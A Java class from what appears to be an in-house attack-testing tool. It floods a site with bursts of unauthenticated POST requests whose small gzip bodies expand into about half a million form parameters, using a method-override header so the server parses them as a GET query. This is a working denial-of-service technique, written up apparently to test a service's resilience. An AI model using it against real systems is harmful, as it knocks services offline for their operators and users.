package dev.longrun.tools.attack;

import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Forms that stand for the query of a GET, small when sent and large when taken apart. */
final class FormAttack implements Attack {
  private static final int AT_ONCE = 64;
  private static final int BURSTS = 3;

  @Override
  public String name() {
    return "1  forms of half a million parameters, without credentials";
  }

  @Override
  public void run(Site site, Notes notes) {
    byte[] same = form("a&".repeat(1 << 19));
    byte[] distinct =
        form(
            IntStream.range(0, 150_000)
                .mapToObj(it -> Integer.toString(it, 36))
                .collect(Collectors.joining("&")));
    for (int burst = 0; burst < BURSTS; burst++) {
      notes.add("64 x 1.3 kB: " + site.flood(AT_ONCE, 0, it -> same));
      notes.add("64 x distinct names: " + site.flood(AT_ONCE, 0, it -> distinct));
    }
  }

  private static byte[] form(String text) {
    return Wire.request(
        "POST",
        Site.OPERATIONS,
        "",
        Wire.gzip(text),
        "X-HTTP-Method-Override: GET",
        "Content-Encoding: gzip",
        "Content-Type: application/x-www-form-urlencoded");
  }
}
